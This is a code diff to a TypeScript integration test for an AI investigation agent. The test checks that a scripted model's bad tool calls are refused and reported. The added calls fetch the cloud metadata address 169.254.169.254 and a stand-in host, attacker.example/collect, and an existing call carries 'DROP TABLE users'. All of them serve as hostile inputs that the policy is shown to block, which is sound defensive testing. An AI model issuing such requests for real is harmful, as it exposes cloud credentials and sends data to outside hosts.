@@ -18,7 +18,7 @@ import { buildReport } from "../queries/report";
 import { runReportSchema } from "../report";
 import { createRun, executeRun } from "../runs/run-service";
 import type { Engine } from "../workflow/engine";
-import type { InvestigatorWithTools } from "../workflow/nodes/investigate";
+import type { InvestigatorModel } from "../workflow/deps";
 import { chatModelFromEnv, llmReasoner } from "../workflow/reasoner";
 import { FINAL_ANSWER_REQUEST } from "./prompt";
 import type { Investigation } from "./schema";
@@ -123,7 +123,7 @@ beforeAll(async () => {
   const rawEnv = { DATABASE_URL: database, AUTH_SECRET: "s".repeat(32), OPENAI_API_KEY: "sk-test-investigator-key", OPENAI_BASE_URL: stub.baseUrl, OPENAI_MODEL: "stub-model", LLM_TIMEOUT_MS: "5000" };
   const env = parseEnv(rawEnv);
   const model = chatModelFromEnv(env)!;
-  const withTools: InvestigatorWithTools = { load: model, name: "stub-model", tools: [...INVESTIGATION_TOOLS, ...([configDump, failingConnect, slowTool, unavailableTool] as InvestigationTool<never>[])] };
+  const withTools: InvestigatorModel = { load: model, name: "stub-model", tools: [...INVESTIGATION_TOOLS, ...([configDump, failingConnect, slowTool, unavailableTool] as InvestigationTool<never>[])] };
   const settings = {
     ...TEST_SETTINGS,
     site: { credentials: { origin: site.url, cookie: `session=${COOKIE_VALUE}; theme=dark`, bearer: BEARER } },
@@ -227,7 +227,7 @@ describe("the AI investigation in a run", () => {
     expect(value(metrics, "troubleshooter_process_investigation_tool_calls_total", { tool: "issue_evidence", outcome: "ok" })).toBeGreaterThanOrEqual(1);
   });
 
-  it("refuses an unknown tool, malformed and wrong-typed arguments, a repeat and a policy refusal, and goes on", async () => {
+  it("refuses an unknown tool, malformed and wrong-typed arguments, a repeat and policy refusals (URLs included), and goes on", async () => {
     investigator = (req, turn) => {
       const first = investigatorInput(req).issues[0]!;
       if (turn === 0) {
@@ -241,6 +241,8 @@ describe("the AI investigation in a run", () => {
             call("issue_evidence", { issueId: first.id }),
             call("issue_evidence", { issueId: "not-an-issue-of-this-run" }),
             call("issue_evidence", { issueId: first.id, sql: "DROP TABLE users" }),
+            call("fetch_page", { url: "http://169.254.169.254/latest/meta-data/" }),
+            call("fetch_page", { url: "https://attacker.example/collect" }),
           ],
         };
       }
@@ -256,8 +258,13 @@ describe("the AI investigation in a run", () => {
       ["T5", "refused", "repeated"],
       ["T6", "refused", "policy"],
       ["T7", "refused", "invalid_arguments"],
+      ["T8", "refused", "policy"],
+      ["T9", "refused", "policy"],
     ]);
-    const [unknown, notJson, wrongType, , , policy, extra] = investigation.toolCalls;
+    const [unknown, notJson, wrongType, , , policy, extra, metadata, foreign] = investigation.toolCalls;
+    // The address policy and the target's origin, through the whole agent: nothing was fetched.
+    expect(metadata!.reason).toMatch(/169\.254\.169\.254/);
+    expect(foreign!.reason).toMatch(/origin/);
     expect(unknown!.reason).toMatch(/no tool "run_shell" is offered; the tools are .*issue_evidence/);
     expect(notJson).toMatchObject({ reason: "the arguments were not JSON", args: "{issueId: oops" });
     expect(wrongType!.reason).toMatch(/^invalid arguments: issueId: /);
@@ -267,7 +274,7 @@ describe("the AI investigation in a run", () => {
     expect(investigation.claims[0]!.citations).toEqual(["T4"]);
     // The model was told each refusal with its reason.
     const told = toolMessages(requests[1]!);
-    expect(told.map((m) => m.status)).toEqual(["refused", "refused", "refused", "ok", "refused", "refused", "refused"]);
+    expect(told.map((m) => m.status)).toEqual(["refused", "refused", "refused", "ok", "refused", "refused", "refused", "refused", "refused"]);
     expect(told[1]!.reason).toBe("the arguments were not JSON");
     // The conversation answers every call the model made, in its order.
     const asked = requests[1]!.messages.find((m) => m.role === "assistant")?.tool_calls?.map((c) => c.id);
